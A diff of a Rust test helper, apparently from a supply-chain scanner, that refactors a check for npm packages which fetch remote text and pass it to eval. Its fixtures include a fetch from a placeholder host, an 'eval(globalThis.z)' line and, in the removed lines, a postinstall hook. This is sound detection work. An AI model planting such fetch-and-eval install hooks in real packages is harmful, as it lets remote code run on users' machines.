@@ -1,23 +1,11 @@
-use crate::flow::analyse;
-use crate::package::Package;
-use crate::unpack::{Tree, text_file as file};
-use customs_model::{SinkKind, SourceKind};
+use crate::flow::testing::{remote_code, script};
+use crate::unpack::text_file as file;
 
 fn runs_remote_code(code: &str) -> bool {
-    let manifest = r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#;
     let code = code.replace("TEXT", "fetch('https://a.invalid/b').then(r => r.text())");
-    let found = analyse(&Package::new(&Tree {
-        entries: vec![
-            file("package/package.json", manifest),
-            file("package/i.js", &code),
-            file("package/x.js", "eval(globalThis.z)"),
-        ],
-        ..Tree::default()
-    }));
-    found
-        .flows
-        .iter()
-        .any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::DynamicCode)
+    let mut entries = script(&code);
+    entries.push(file("package/x.js", "eval(globalThis.z)"));
+    remote_code(entries).is_some()
 }
 
 #[test]
